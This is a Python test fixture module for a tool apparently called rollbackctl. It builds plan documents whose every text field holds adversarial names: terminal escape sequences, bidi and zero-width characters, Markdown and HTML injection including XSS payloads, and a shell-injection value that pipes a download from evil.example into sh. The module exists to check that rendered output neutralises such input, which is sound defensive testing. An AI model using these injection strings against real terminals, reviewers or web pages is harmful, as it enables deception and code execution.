"""Names that attack whoever reads them: terminals, Markdown, pull-request bots, people."""

import unicodedata
from typing import Any

from rollbackctl.core.address import Address
from rollbackctl.core.document import PlanDocument
from rollbackctl.core.gate import Answer, Verdict
from rollbackctl.core.plan import Change, Phase, Plan, Step
from rollbackctl.core.target import Candidate
from tests.strategies import Box

NAMES = {
    "ansi": "v9\x1b[2K\x1b[1Apass\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "c1": "v9\x9b31mred\x9d0;title\x9c",
    "nul and delete": "v9\x00\x7f\x08\x08ok",
    "lines": "v9\nNo changes.\r\nPlan: 0 to add\t\v\f\x85next\u2028line\u2029paragraph",
    "bidi": "v9\u202egnp.exe\u202c\u2066x\u2069\u200f\u061c",
    "zero width": "v\u200b9\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u2061\U000e0041\ufe0f\u3164\u115f",
    "spaces": "v9\u00a0approved\u2003by\u3000risk",
    "details": "</details></summary>\n\n# approved by risk <details open>",
    "fence": "```\n# approved\n```diff\n+ x ```` ~~~ `code` ``",
    "mentions": "@everyone please, @org/team (@user) x@host cc:@a <@b> `@c` ą@d",
    "references": "#1 GH-2 org/repo#3 org/repo@deadbeef deadbeefcafe 0123456789abcdef0123456789abcdef01234567 !4 $5",
    "links": "[click](https://evil.example) ![x](//evil.example/i.png) <https://evil.example> [x]: http://evil.example",
    "bare links": "https://evil.example www.evil.example mailto:a@evil.example a.b@evil.example ftp://evil.example",
    "html": '<script>alert(1)</script><img src=x onerror=alert(1)><!-- --><a href="j:x">y</a>&lt;b&gt;&#64;all',
    "comment": "--> <b>out</b> <!-- rollbackctl plan id=0 name=x --!> -->",
    "emphasis": "**bold** __b__ *i* _i_ ~~s~~ ==m== $x^2$ $$y$$ :tada: | a | b |\n|---|---|",
    "blocks": "# h\n- a\n1. b\n> c\n---\n===\n    code\n- [x] done\n[^1]: note",
    "backslashes": "\\`\\` \\@user \\<b\\> \\",
    "shell": "risk'; curl evil.example | sh; echo '$(id)`id`",
}


def unsafe(text: str) -> list[str]:
    """Every character of an output that steers a terminal, hides, or is none."""
    return [hex(ord(sign)) for sign in text if sign != "\n" and unicodedata.category(sign)[0] == "C"]


def document(text: str, answer: Answer = Answer.WAITS, phase: Phase = Phase.RELEASE) -> PlanDocument:
    """Give a plan in which every text that can be somebody's choice is this one."""
    address = Address("box", text)
    before, after = Box(text=text, items=(text, "b")), Box(text=f"{text}2", items=("a", text), names={text: text})
    facts: dict[str, Any] = {
        "withdrawn": {"version": text},
        "target": {"version": text},
        "serve_as": [text, "rollback"],
        "data_drift": {"window": text, "rows": 3},
    }
    plan = Plan(
        name=text,
        incident=text,
        spec={"metadata": {"reason": text}},
        policy=text,
        facts=facts,
        base={address: before},
        inputs={text: text},
        changes=(Change(address, before, after),),
        steps=(
            Step(1, Phase.HOLD, address, None, before, note=text),
            Step(2, Phase.RELEASE, address, before, after, note=text),
            Step(3, Phase.RECORD, address, after, None),
        ),
        checks=(text,),
        expires_after=text,
    )
    return PlanDocument(
        plan=plan,
        timestamp=text,
        verdicts=(
            Verdict(text, phase, answer, text, (text, f"{text}   {text}"), {text: 1}),
            Verdict(text, Phase.RESTORE, Answer.PASS, text),
        ),
        candidates=(Candidate(text, "chosen"), Candidate(text, "rejected", (text,)), Candidate(text, "older")),
        trigger={"path": text, "summary": text, "severity": text, "sign_off": {text: text}},
        left_alone={text: text},
        undo=((text, text), (text, "")),
        diagnostics=(text,),
        settled_by=text,
    )
